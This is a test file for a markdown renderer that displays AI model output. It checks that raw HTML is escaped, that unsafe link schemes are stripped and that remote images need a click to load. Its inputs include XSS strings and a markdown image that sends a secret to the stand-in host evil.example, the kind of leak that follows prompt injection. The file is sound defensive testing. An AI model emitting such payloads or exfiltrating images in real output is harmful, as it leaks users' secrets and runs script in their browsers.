import { modelMarkdown } from '../../src/console/model-markdown';

const shown = (text: string) => modelMarkdown(text).text;

test('raw HTML a model writes shows as text, never as markup', () => {
  const html = shown('<script>alert(1)</script> <img src=x onerror="alert(2)"> <b style="x">bold</b>');
  expect(html).not.toMatch(/<(script|img|b)[\s>]/);
  expect(html).toContain('&lt;script&gt;');
});

test('links go to http(s) only, in a new tab without opener or referrer', () => {
  expect(shown('[site](https://example.com/a?b=1)')).toBe(
    '<p><a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">site</a></p>\n',
  );
  for (const link of [
    'javascript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:x',
    '//evil.example/x',
  ]) {
    const html = shown(`[bad](${link})`);
    expect(html).not.toMatch(/href=/);
  }
});

test('an image is a button naming its host, loaded by nobody until clicked; a non-http image is text', () => {
  const html = shown('![leak](https://evil.example/p.gif?secret=sk-123)');
  expect(html).toContain(
    '<button type="button" class="remote-image" data-src="https://evil.example/p.gif?secret=sk-123">',
  );
  expect(html).toContain('Load image "leak" from evil.example');
  expect(html).not.toMatch(/<img/);
  expect(shown('![x](data:image/png;base64,AAAA)')).not.toMatch(/<img|<button/);
});

test('markdown of its own kinds is kept: emphasis, code, lists, tables', () => {
  const html = shown('**bold** `code`\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |');
  expect(html).toContain('<strong>bold</strong>');
  expect(html).toContain('<code>code</code>');
  expect(html).toContain('<li>one</li>');
  expect(html).toContain('<td>1</td>');
});
